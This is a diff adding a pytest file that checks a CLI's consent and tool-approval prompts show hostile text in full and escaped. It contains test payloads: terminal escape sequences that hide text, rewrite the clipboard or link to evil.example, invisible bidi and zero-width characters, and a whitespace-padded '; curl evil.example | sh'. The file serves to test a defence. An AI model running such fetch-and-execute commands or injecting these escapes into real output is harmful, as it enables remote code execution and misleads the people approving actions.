@@ -1,0 +1,105 @@
+"""Text from servers and files in a terminal: it is only ever shown, and what a person agrees to is all there."""
+
+from __future__ import annotations
+
+import io
+import json
+
+import msgspec
+import pytest
+
+from pilothouse.cli import consent, questions
+from pilothouse.cli.terminal import Terminal, exact, exact_json
+from pilothouse.types.items import Item
+from pilothouse.types.json import JsonObject
+from pilothouse.types.servers import Consent
+from tests.server.memory_servers import server_view
+
+# Clear screen, hide what follows, move up, a link, the clipboard, a title, bells, a lone carriage return.
+ESCAPES = "\x1b[2J\x1b[8m\x1b[1A\x1b]8;;https://evil.example\x1b\\x\x1b]52;c;eA==\x07\x1b]0;t\x07\x9b31m\r\x08\x7f"
+# Bidi overrides, zero width, a variation selector, a soft hyphen, tag characters, odd spaces.
+UNSEEN = "\u202e\u2066\u200b\ufe0f\u00ad\U000e0041\u00a0\u2028\u3164"
+
+
+def shown_consent(**fields: object) -> str:
+    stream = io.StringIO()
+    asked = Consent(
+        fingerprint="f" * 64,
+        argv=("/usr/bin/env", "-S", "server"),
+        program="/usr/bin/env",
+        program_owner="root",
+        environment=(),
+        folder="/home/me",
+    )
+    consent.show(server_view("Echo"), msgspec.structs.replace(asked, **fields), Terminal(stream))
+    return stream.getvalue()
+
+
+def question(arguments: JsonObject, text: str = "Allow files.write?") -> tuple[Item, Item]:
+    """Return an approval and the call it is about."""
+    call = Item(
+        id="i_1",
+        conversation_id="c_1",
+        run_id="r_1",
+        kind="tool_call",
+        status="streaming",
+        position=1,
+        text="",
+        data={"arguments": arguments},
+        created_at=0.0,
+        updated_at=0.0,
+    )
+    choices = [{"id": "allow", "label": "Allow once"}, {"id": "deny", "label": "Deny"}]
+    data = {"kind": "approval", "callItemId": "i_1", "serverTool": "files.write", "choices": choices}
+    return msgspec.structs.replace(call, id="i_2", kind="question", status="waiting", text=text, data=data), call
+
+
+def shown_question(arguments: JsonObject, text: str = "Allow files.write?") -> str:
+    stream = io.StringIO()
+    questions.show(*question(arguments, text), Terminal(stream))
+    return stream.getvalue()
+
+
+@pytest.mark.case("TEXT-01", "TEXT-02", "SPAWN-02")
+def test_a_command_that_hides_a_part_of_itself_is_shown_in_full() -> None:
+    padded = f"{' ' * 4096}; curl evil.example | sh"
+    text = shown_consent(argv=("/usr/bin/env", f"a{ESCAPES}b", padded, UNSEEN, "two\nlines"), environment=(ESCAPES,))
+    assert "\x1b" not in text
+    assert "\r" not in text
+    assert padded in text
+    assert r"a\u{001b}[2J\u{001b}[8m" in text
+    assert r"two\u{000a}lines" in text
+    for char in UNSEEN:
+        assert char not in text
+        assert f"{ord(char):04x}" in text
+    # One line for each argument: none can pass for another.
+    assert [line.split()[1] for line in text.splitlines() if line.startswith("  argument")] == ["1", "2", "3", "4"]
+
+
+@pytest.mark.case("TEXT-02", "SPAWN-02")
+def test_an_honest_command_is_shown_as_it_is() -> None:
+    text = shown_consent(
+        argv=("/usr/bin/env", "-S", "Grüße aus Zürich.txt", "日本語"), warnings=("Runs arbitrary code.",)
+    )
+    assert "Grüße aus Zürich.txt" in text
+    assert "日本語" in text
+    assert "! Runs arbitrary code." in text
+    assert "\\u" not in text
+
+
+@pytest.mark.case("TEXT-01", "TEXT-02")
+def test_the_arguments_of_a_call_are_shown_whole_and_exactly() -> None:
+    arguments = {"path": f"/tmp/{ESCAPES}", UNSEEN: ["x", {"deep": UNSEEN}], "long": "y" * 50_000}
+    text = shown_question(arguments, f"Allow{ESCAPES}?")
+    assert "\x1b" not in text
+    assert not any(char in text for char in UNSEEN)
+    shown = text[text.index("{") :]
+    assert json.loads(shown) == arguments
+
+
+@pytest.mark.case("TEXT-04")
+def test_what_cannot_be_seen_is_written_by_its_number_and_the_rest_stays() -> None:
+    assert exact("plain text, Zürich, 世界") == "plain text, Zürich, 世界"
+    assert exact("a\u200bb") == r"a\u{200b}b"
+    assert json.loads(exact_json(json.dumps({"a": UNSEEN}, ensure_ascii=False))) == {"a": UNSEEN}
+    assert exact_json('{\n  "a": "b"\n}') == '{\n  "a": "b"\n}'
